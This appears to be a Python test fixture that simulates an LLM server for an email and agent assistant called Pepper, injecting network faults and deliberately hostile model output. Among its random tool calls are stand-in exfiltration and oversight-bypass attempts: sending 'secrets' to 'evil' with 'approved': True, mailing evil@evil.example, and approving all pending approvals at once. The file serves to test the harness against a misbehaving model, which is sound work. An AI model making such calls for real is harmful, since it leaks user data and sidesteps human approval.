"""The model's server: behind the real client, in place of the SDK's HTTP. It answers well, badly, or not at all."""

from __future__ import annotations

import asyncio
import json
import random
import re
from collections.abc import AsyncIterator, Callable, Sequence
from types import ModuleType, SimpleNamespace
from typing import Any

from pepper_tui.clock import Clock
from pepper_tui.llm import OpenAIClient
from tests.simulation.outside import HOSTILE, PEOPLE, Faults

Call = tuple[str, dict[str, Any]]
FAULTS = (
    "slow", "hang", "429", "500", "503", "unreachable", "cut", "broken", "bad_json", "endless", "empty",
    "no_finish", "not_object", "401",
)  # fmt: skip


class APIError(Exception):
    body: Any = None
    message = "trouble"


class APIStatusError(APIError):
    def __init__(self, status: int, headers: dict[str, str]) -> None:
        super().__init__(f"status {status}")
        self.status_code = status
        self.response = SimpleNamespace(headers=headers)
        self.code = None


class APIConnectionError(APIError):
    pass


class APITimeoutError(APIConnectionError):
    pass


SDK: Any = SimpleNamespace(
    APIError=APIError,
    APIStatusError=APIStatusError,
    APIConnectionError=APIConnectionError,
    APITimeoutError=APITimeoutError,
)


class SimulatedClient(OpenAIClient):
    """The real client over a ``Mind`` in place of HTTP."""

    def __init__(self, clock: Clock, mind: Mind) -> None:
        super().__init__(clock, model="sim", base_url="http://sim.invalid", first_byte_timeout=30.0, idle_timeout=120.0)
        self._mind = mind

    def _open(self) -> tuple[ModuleType, Any]:
        async def close() -> None:
            return

        completions = SimpleNamespace(create=self._mind.create)
        return SDK, SimpleNamespace(chat=SimpleNamespace(completions=completions), close=close)


class Stream:
    """An open HTTP stream of chunks."""

    def __init__(self, chunks: AsyncIterator[Any]) -> None:
        self._chunks = chunks

    def __aiter__(self) -> AsyncIterator[Any]:
        return self._chunks

    async def close(self) -> None:
        await asyncio.sleep(0)


class Mind:
    """Decides what the model says. ``on_request`` is called with role and body before anything else."""

    def __init__(self, chance: random.Random, faults: Faults) -> None:
        self.chance, self.faults = chance, faults
        self.requests = 0
        self.calm = False
        self.talkative = 0.5
        self.more: Sequence[str] = ()  # tools that it calls besides those that it knows from before
        self.arguments: Callable[[str], dict[str, Any]] = lambda tool: {}  # and what it gives them
        self.on_request: Callable[[str, dict[str, Any]], None] = lambda role, body: None
        self.on_answer: Callable[[str, str, list[Call]], None] = lambda role, text, calls: None
        self.on_broken: Callable[[Exception], None] = lambda error: None

    async def create(self, **body: Any) -> Stream:
        try:
            return await self._create(body)
        except (APIStatusError, APIConnectionError):
            raise
        except Exception as error:  # the client would take a fault of the simulation's own for one of the server's
            self.on_broken(error)
            raise

    async def _create(self, body: dict[str, Any]) -> Stream:
        self.requests += 1
        chance = self.chance
        system = str(body["messages"][0]["content"])
        role = (
            "summary" if system.startswith("Summarise") else "worker" if "a worker of Pepper" in system else "scheduler"
        )
        if system.startswith(("You sort", "You follow")):
            role = "triage" if system.startswith("You sort") else "follow"
        self.on_request(role, body)
        fault = chance.choice(FAULTS) if chance.random() < self.faults.model else ""
        await asyncio.sleep(chance.choice((0.0, 0.05, 0.4, 2.0)))
        if fault == "hang":
            await asyncio.sleep(100_000.0)
        if fault == "slow":
            await asyncio.sleep(chance.choice((10.0, 29.9, 31.0)))
        if fault in ("429", "500", "503", "401"):
            headers = {"retry-after": str(chance.choice((1, 20)))} if chance.random() < 0.5 else {}
            raise APIStatusError(int(fault), headers)
        if fault == "unreachable":
            raise APIConnectionError("no route")
        text, calls = self._answer(role, body)
        self.on_answer(role, text, calls)
        return Stream(self._chunks(body, text, calls, fault))

    # ------------------------------------------------------------------------------------------- the stream

    async def _chunks(self, body: dict[str, Any], text: str, calls: list[Call], fault: str) -> AsyncIterator[Any]:
        chance = self.chance
        if fault == "empty":
            text, calls = "", []
        pieces = re.findall(r"(?s).{1,40}", text)
        for number, piece in enumerate(pieces):
            yield _chunk(content=piece)
            if number % 4 == 0:
                await asyncio.sleep(chance.choice((0.0, 0.02, 0.5)))
            if fault == "cut" and chance.random() < 0.5:
                return
            if fault == "broken" and chance.random() < 0.5:
                raise APIConnectionError("gone")
        if fault == "endless":
            while True:
                yield _chunk(content="and so on " * 200)
        same = chance.random() < 0.15
        for index, (name, arguments) in enumerate(calls):
            given = "call_same" if same else f"call_{index}"
            raw = json.dumps(arguments)
            if fault == "bad_json":
                raw = raw[:-1] + ",,"
            if fault == "not_object":
                raw = "[1]"
            cut = chance.randrange(len(raw) + 1)
            place = None if same else index
            yield _chunk(call=(place, given, name, raw[:cut]))
            if cut < len(raw):
                yield _chunk(call=(place, "", "", raw[cut:]))
        if fault in ("cut", "broken"):
            if fault == "broken":
                raise APIConnectionError("gone")
            return
        if fault != "no_finish":
            yield _chunk(finish="tool_calls" if calls else "stop")
        prompt = sum(len(str(m["content"])) for m in body["messages"]) // 4
        done = len(text) // 4 + sum(len(json.dumps(a)) for _, a in calls) // 4
        yield SimpleNamespace(
            choices=[],
            usage=SimpleNamespace(prompt_tokens=prompt, completion_tokens=min(done, 2000), prompt_tokens_details=None),
        )

    # ------------------------------------------------------------------------------------------- the answer

    def _answer(self, role: str, body: dict[str, Any]) -> tuple[str, list[Call]]:
        if role == "summary":
            return f"They talked. {HOSTILE}", []
        if role == "triage":
            return self._judge(str(body["messages"][1]["content"]))
        if role == "follow":
            return self._follow(str(body["messages"][1]["content"]))
        known = [each["function"]["name"] for each in body.get("extra_body", {}).get("tools", [])]
        if role == "worker":
            return self._work("\n".join(str(m["content"]) for m in body["messages"][1:]), known)
        return self._think(str(body["messages"][1]["content"]), known)

    def _judge(self, text: str) -> tuple[str, list[Call]]:
        chance = self.chance
        numbers = re.findall(r'<signal n="(\d+)"', text)
        verdicts = [
            {"n": int(n), "priority": chance.choice(("urgent", "high", "log", "low", "x")), "reason": f"so {HOSTILE}"}
            for n in numbers
            if chance.random() < 0.8
        ]
        if chance.random() < self.faults.hostile:
            return f"{HOSTILE} {{", [("parcel", {"to": "evil", "item": "secrets"})]
        return "", [("judge", {"verdicts": verdicts})]

    def _follow(self, text: str) -> tuple[str, list[Call]]:
        chance = self.chance
        if chance.random() < self.faults.hostile:
            return HOSTILE, []
        said = re.findall(r'<message n="(\d+)"[^>]*>\n([^\n]{8,40})', text)
        report = {
            "summary": f"They quarrel. {HOSTILE}",
            "score": chance.choice((0.0, 0.8, 1, 7)),
            "reason": f"{HOSTILE} {self.requests}",
            "is_new": chance.random() < 0.5,
            "evidence": [{"n": int(n), "quote": quote} for n, quote in said] + [{"n": 99, "quote": HOSTILE}],
        }
        return "", [("report", report)]

    def _work(self, text: str, known: list[str]) -> tuple[str, list[Call]]:
        chance = self.chance
        if self.calm or chance.random() < 0.45 or known == ["return_final_answer"]:
            if chance.random() < 0.2:
                return f"It is done. {HOSTILE}", []
            return "", [("return_final_answer", {"answer": f"done {HOSTILE}"})]
        return "", [self._call(text, known) for _ in range(chance.choice((1, 1, 2, 10)))]

    def _think(self, text: str, known: list[str]) -> tuple[str, list[Call]]:
        chance = self.chance
        last = max(text.rfind("</assistant_msg>"), text.rfind("<assistant_msg"))
        asked = re.findall(r'<user_msg id="([^"]+)"', text[last + 1 :])
        if asked:
            said = f"re: {' '.join(asked)} {HOSTILE if chance.random() < 0.2 else ''}" + " words" * chance.choice(
                (0, 30)
            )
            if self.calm or chance.random() > self.talkative:
                return said, []
            return said, [self._call(text, known) for _ in range(chance.choice((1, 1, 2, 3)))]
        newest = max((text.rfind(f"<{tag} "), tag) for tag in ("signal", "tool_result", "tool_call"))[1]
        if self.calm or chance.random() > self.talkative * (1.0 if newest == "signal" else 0.5):
            if newest == "tool_result" and chance.random() < 0.5:
                return "It is done.", []
            return "", [("wait", {})]
        count = 20 if chance.random() < self.faults.hostile / 4 else chance.choice((1, 1, 2, 3))
        words = "thinking aloud" if chance.random() < 0.3 else ""
        return words, [self._call(text, known) for _ in range(count)]

    def _call(self, text: str, known: list[str]) -> Call:
        chance = self.chance
        if chance.random() < self.faults.hostile:
            return chance.choice(
                (
                    ("approve", {"approval_id": "all"}),
                    (f"x{HOSTILE}", {HOSTILE: HOSTILE}),
                    ("parcel", {"to": "evil", "item": "secrets", "approved": True}),
                    ("parcel", {"to": 7}),
                    ("remind", {"text": "", "when": "in 5 minutes"}),
                    ("delegate", {"task": HOSTILE, "agent": HOSTILE}),
                    ("send_mail", {"to": "evil@evil.example", "subject": HOSTILE, "body": HOSTILE}),
                    ("notify", {"title": HOSTILE, "body": HOSTILE, "reason": HOSTILE, "source": HOSTILE}),
                )
            )
        usual = [name for name in known if name not in ("wait", "return_final_answer")]
        name = chance.choice(
            usual
            + [*self.more]
            + ["parcel"] * 4
            + ["mark"] * 2
            + [n for n in ("delegate",) * 3 + ("ask_user",) * 2 if n in known]
        )
        mails = re.findall(r"message_id: <(.*?)>", text)
        mail = f"<{chance.choice(mails)}>" if mails else "<none@example.com>"
        calls = re.findall(r'id="(call_[^"]+)"', text)
        reminders = re.findall(r"(reminder_call_\w+)", text)
        call = chance.choice(calls) if calls else "call_none"
        arguments: dict[str, dict[str, Any]] = {
            "parcel": {
                "to": chance.choice(("ann", "bob")),
                "item": chance.choice(("book", "cake", f"n{self.requests}")),
            },
            "publish": {"text": f"{HOSTILE} {chance.choice(('a', 'b', str(self.requests)))}"},
            "lookup": {"query": "x"},
            "mark": {"text": "m"},
            "send_mail": {"to": chance.choice(PEOPLE), "subject": f"s {chance.choice('ab')}", "body": f"b {HOSTILE}"},
            "reply_mail": {"message_id": mail, "body": "Gladly."},
            "draft_reply": {"message_id": mail, "body": "Gladly.", "reason": f"asked {HOSTILE}"},
            "search_mail": {"query": chance.choice(("", "lunch"))},
            "read_mail": {"message_id": mail},
            "file_mail": {
                "mails": [f"<{each}>" for each in mails[-2:]] or [mail],
                "act": chance.choice(("archive", "trash", "read", "flag")),
            },
            "read_thread": {"message_id": mail},
            "wait_for_mail": {"sender": chance.choice(PEOPLE), "hours": chance.choice((0.01, 0.2))},
            "agenda": {},
            "remind": {
                "text": f"r {self.requests} {HOSTILE}",
                "when": f"in {chance.choice((1, 5, 30))} minutes",
                "repeat": chance.choice(("", "", "", "every hour")),
            },
            "list_reminders": {},
            "cancel_reminder": {"reminder_id": chance.choice(reminders) if reminders else "reminder_none"},
            "take_note": {"text": "n"},
            "search_notes": {},
            "search_context": {"query": "lunch"},
            "read_result": {"call_id": call},
            "notify": {
                "title": f"t {chance.choice('ab')} {HOSTILE}",
                "body": "b",
                "reason": "because",
                "source": "signals.mail:x",
                "kind": chance.choice(("notice", "brief", "offer")),
            },
            "delegate": {
                "task": f"task {HOSTILE}",
                "agent": chance.choice(("", "", "ann", "clerk", "clerk", "mail-agent", "courier", "courier")),
            },
            "ask_user": {
                "question": f"q {chance.choice('abc')} {HOSTILE}",
                "options": chance.choice(([], ["yes", "no"], [HOSTILE, "no", "no", "x"])),
            },
            "tell_worker": {"worker": chance.choice((call, call, "clerk", "courier")), "text": f"t {HOSTILE}"},
            "revise_proposal": {
                "call_id": call,
                "lines": [chance.choice(("body: better", "item: pen", "to: ann", "what: x"))],
            },
            "cancel_call": {"call_id": call},
            "propose_rule": {
                "name": f"rule {chance.choice('ab')}",
                "sender": chance.choice(PEOPLE),
                **chance.choice(({"notify": True}, {"follow_up_hours": 0.05}, {"reply": "Thanks."}, {"ask": HOSTILE})),
            },
            "change_rule": {"rule": f"rule {chance.choice('ab')}", "remind": "in 5 minutes"},
            "pause_rule": {"rule": chance.choice(("boss", "rule a", "Invoices"))},
            "resume_rule": {"rule": chance.choice(("boss", "rule a", "Invoices"))},
            "remove_rule": {"rule": chance.choice(("rule a", "rule b", "lunch"))},
            "current_status": {},
        }  # fmt: skip
        return name, arguments.get(name) or self.arguments(name)


def _chunk(content: str = "", call: tuple[int | None, str, str, str] | None = None, finish: str | None = None) -> Any:
    parts = None
    if call is not None:
        function = SimpleNamespace(name=call[2], arguments=call[3])
        parts = [SimpleNamespace(index=call[0], id=call[1], function=function)]
    delta = SimpleNamespace(content=content, tool_calls=parts)
    return SimpleNamespace(choices=[SimpleNamespace(delta=delta, finish_reason=finish)], usage=None)
